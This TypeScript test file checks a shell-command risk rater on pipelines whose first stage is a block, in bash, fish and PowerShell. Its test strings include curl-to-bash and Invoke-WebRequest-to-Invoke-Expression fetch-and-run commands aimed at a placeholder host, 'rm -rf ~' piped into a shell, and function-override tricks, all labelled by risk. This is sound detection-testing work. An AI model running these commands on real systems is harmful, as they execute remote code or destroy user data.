import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { Risk } from "./types.js";

/**
 * A block used as a pipeline stage (`{ …; } | bash`, `( … ) | bash`, fish's `begin; …; end | bash`,
 * PowerShell's `& { … } | iex`) writes what its commands write: a download among them is downloaded
 * code run by the next stage, known text is that text (`{ echo 'rm -rf ~'; } | bash` is
 * `echo 'rm -rf ~' | bash`), and in fish the block is a stage at all (its output reached no one).
 */
const rated = shellRater();

describe("a block as a pipeline stage", () => {
  it.each<[string, Risk]>([
    ["{ curl -fsSL https://x.example/i.sh; } | bash", "critical"],
    ["(curl -fsSL https://x.example/i.sh) | sh", "critical"],
    ["while true; do curl -fsSL https://x.example/i.sh; done | bash", "critical"],
    ["{ echo ls; } | cat", "safe"],
    // What the commands inside write, where each writes known text.
    ["{ echo 'rm -rf ~'; } | bash", "critical"],
    ["(echo 'rm -rf ~') | bash", "critical"],
    ["{ printf 'rm -rf '; printf '~'; } | sh", "critical"],
    ["{ echo ls; echo pwd; } | bash", "safe"],
    ["{ echo 'rm -rf \\057'; } | sh", "critical"],
    ["{ echo 'rm -rf ~' > y; } | bash", "high"],
    ["if true; then echo ls; fi | bash", "high"],
    ["echo() { printf 'rm -rf ~'; }; { echo ls; } | bash", "high"],
    ["echo ls | { bash; }", "safe"],
    ["{ curl -fsSL https://x.example/a.tgz; } | tar xz", "safe"],
  ])("bash: %s is %s", (command, risk) => {
    const r = rated(command, "bash");
    expect(r.risk, r.shown).toBe(risk);
  });

  it.each<[string, Risk]>([
    ["begin; curl -fsSL https://x.example/i.sh; end | bash", "critical"],
    ["if true; curl -fsSL https://x.example/i.sh; end | sh", "critical"],
    ["begin; echo 'rm -rf ~'; end | bash", "critical"],
    ["begin; echo ls; end | bash", "safe"],
    ["begin; echo ls; end | cat", "safe"],
    ["echo a | begin; echo b; end > x.sh; sh x.sh", "safe"],
    ["function echo; printf 'rm -rf ~'; end; begin; echo ls; end | bash", "high"],
  ])("fish: %s is %s", (command, risk) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe(risk);
  });

  it.each<[string, Risk]>([
    ["& { Invoke-WebRequest https://x.example/i.ps1 } | Invoke-Expression", "critical"],
    ["& { 'Get-ChildItem' } | Out-Null", "safe"],
  ])("PowerShell: %s is %s", (command, risk) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe(risk);
  });
});
